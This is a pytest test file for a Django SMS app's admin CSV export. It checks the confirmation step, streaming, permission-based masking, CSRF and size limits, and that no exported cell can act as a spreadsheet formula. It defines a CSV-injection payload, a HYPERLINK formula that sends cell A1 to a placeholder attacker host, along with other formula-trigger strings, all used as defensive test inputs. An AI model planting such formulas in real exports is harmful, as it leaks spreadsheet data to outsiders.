"""Export messages: asked first, streamed, masked, and no spreadsheet computes anything."""

import csv
import io
from decimal import Decimal

import pytest
from django.db import connections

from django_smsww import State
from django_smsww.admin import export as exporting
from django_smsww.admin.export import safe
from django_smsww.admin.permissions import HIDDEN
from django_smsww.models import Message

from ..conftest import NUMBER
from ..support.people import LIST, browser_of, missing, notices, selection, staff, text_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SEEING = ("view_message", "export_message", "view_message_content", "view_message_costs")
pytestmark = pytest.mark.django_db


def choose(*rows, **extra):
    return selection(*rows, action="export_selected", index="0", **extra)


def confirm(*rows, **extra):
    """Return the form of the confirmation."""
    return selection(*rows, action="export_selected", confirmed="yes", **extra)


def table(answer):
    assert answer.streaming
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_asks_first(browser, make_message):
    rows = [
        make_message(segments=2, country="IT", total_price=Decimal("0.14")),
        make_message(segments=1, country="IT", state=State.DELIVERED),
        make_message(segments=1),
    ]
    answer = browser.post(LIST, choose(*rows))
    shown = ("3 messages", "4 segments", "IT (2), not known (1)", "0.14 EUR", "1 was deliv")
    assert not missing(answer, *shown)
    assert "Content-Disposition" not in answer


def test_the_confirmed_are_in_the_file(browser, make_message):
    body, user = "Così, “fine”\nsecond; line", staff(name="=cmd")
    facts = {"total_price": Decimal("0.140000"), "tag": "otp", "key": "order-7"}
    message = make_message(body=body, created_by=user, **facts)
    make_message()
    answer = browser.post(LIST, confirm(message))
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer["Content-Disposition"]
    [row] = table(answer)
    assert (row["recipient"], row["body"]) == (NUMBER, body)
    assert (row["total_price"], row["penalty"], row["tag"]) == ("0.140000", "", "otp")
    assert (row["reference"], row["key"]) == (str(message.reference), "order-7")
    assert row["created_by"] == "'=cmd"


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "\n=1", "＝1+1", "+39 333", "+"],
)
def test_no_cell_is_a_formula(browser, make_message, text):
    names = ("body", "tag", "sender", "error", "key")
    message = make_message(**dict.fromkeys(names, text[:32]) | {"body": text})
    [row] = table(browser.post(LIST, confirm(message)))
    assert all(row[name].startswith("'") for name in names)


@pytest.mark.parametrize("text", [NUMBER, "0.14", "-1.5", "Hello =1", "'quoted", "", "1-2"])
def test_numbers_and_plain_texts_survive_a_round_trip(text):
    assert safe(text) == text


def test_the_filters_and_the_search_hold_for_all_of_the_list(browser, make_message):
    wanted = [make_message(tag="otp", state=State.FAILED) for _ in range(3)]
    make_message(tag="otp")
    make_message(state=State.FAILED)
    address = f"{LIST}?tag=otp&state=FAILED"
    question = browser.post(address, choose(wanted[0], select_across="1"))
    assert not missing(question, "3 messages", 'name="select_across" value="1"')
    rows = table(browser.post(address, confirm(wanted[0], select_across="1")))
    assert {row["reference"] for row in rows} == {str(row.reference) for row in wanted}


@pytest.mark.parametrize("missing", ["view_message_content", "view_message_costs"])
def test_what_may_not_be_seen_is_not_in_the_file(make_message, missing):
    content = {"body": "secret", "key": f"{NUMBER}-x", "custom": {"phone": NUMBER}}
    costs = {"total_price": Decimal("0.37"), "error_code": "0.37", "error_text": "0.37"}
    message = make_message(**content, **costs, error="InsufficientCredit")
    client = browser_of(staff(*(set(SEEING) - {missing})))
    [row] = table(client.post(LIST, confirm(message)))
    values = ",".join(row.values())
    if missing == "view_message_content":
        assert (row["recipient"], row["body"]) == (HIDDEN, HIDDEN)
        assert NUMBER[1:] not in values
        assert "secret" not in values
    else:
        assert "0.37" not in values
        assert NUMBER in values


@pytest.mark.parametrize("extra", [{}, {"confirmed": "yes"}, {"select_across": "1"}])
def test_nothing_is_exported_without_the_permission(make_message, extra):
    message = make_message()
    client = browser_of(staff(*(set(SEEING) - {"export_message"})))
    answer = client.post(LIST, choose(message, **extra))
    assert "Content-Disposition" not in answer
    assert "export_selected" not in text_of(client.get(LIST))


def test_nothing_is_exported_on_get_or_without_the_token(make_message):
    message = make_message()
    strict = browser_of(staff(*SEEING), enforce_csrf_checks=True)
    assert "Content-Disposition" not in strict.get(LIST, confirm(message))
    assert strict.post(LIST, confirm(message)).status_code == 403


def test_an_endless_file_is_refused(browser, make_message, monkeypatch):
    monkeypatch.setattr(exporting, "MOST_EXPORTED", 2)
    rows = [make_message() for _ in range(3)]
    answer = browser.post(LIST, confirm(*rows), follow=True)
    assert "At most 2 messages" in notices(answer)[0]


def test_a_file_needs_no_cursor_of_the_server(browser, make_message, monkeypatch):
    """A pooler such as PgBouncer loses it between two queries."""
    rows = [make_message(tag=tag) for tag in "abc"]

    def no_cursor(*args):
        raise AssertionError("a cursor of the server")

    monkeypatch.setattr(type(connections["default"]), "chunked_cursor", no_cursor)
    answer = browser.post(LIST, confirm(*rows))
    rows[1].delete()  # while the file is written
    assert [row["tag"] for row in table(answer)] == ["c", "a"]


def test_a_long_file_takes_a_query_for_each_piece(browser, make_message, monkeypatch, queries):
    monkeypatch.setattr(exporting, "ROWS_AT_ONCE", 10)
    for _ in range(45):
        make_message()
    with queries:
        answer = browser.post(LIST, confirm(Message.objects.first(), select_across="1"))
        pieces = list(answer.streaming_content)
    assert len(pieces) == 1 + 5
    assert len([query for query in queries if '"recipient"' in query["sql"]]) <= 1 + 5
